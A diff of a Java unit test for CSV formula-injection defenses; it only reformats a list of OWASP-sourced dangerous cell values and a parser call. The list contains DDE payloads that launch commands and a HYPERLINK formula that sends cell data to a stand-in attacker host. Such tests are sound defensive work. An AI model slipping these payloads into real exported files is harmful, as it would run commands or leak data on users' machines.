@@ -27,10 +27,19 @@ class FormulaInjectionTest {
 
     /** From the OWASP CSV Injection page, and the characters it names. */
     static final List<String> DANGEROUS = List.of(
-            "=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
-            "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "\t=1+1", "\r=1+1", "\n=1+1", "=10+20+cmd|' /C calc'!A0");
+            "=1+1",
+            "+1+1",
+            "-1+1",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "=cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+            "@SUM(1+9)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+            "\n=1+1",
+            "=10+20+cmd|' /C calc'!A0");
+
     static final List<String> HARMLESS = List.of("Sam", "Zoë, \"the tall one\"", "1+1", "a=b", "", "O'Neil\nline two");
 
     @Test
@@ -57,7 +66,10 @@ class FormulaInjectionTest {
         String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
         assertThat(text).contains("\r\n");
         List<CSVRecord> records;
-        try (CSVParser parser = CSVParser.builder().setReader(new StringReader(text)).setFormat(CSVFormat.RFC4180).get()) {
+        try (CSVParser parser = CSVParser.builder()
+                .setReader(new StringReader(text))
+                .setFormat(CSVFormat.RFC4180)
+                .get()) {
             records = parser.getRecords();
         }
         assertThat(records).hasSize(1 + DANGEROUS.size() + HARMLESS.size());
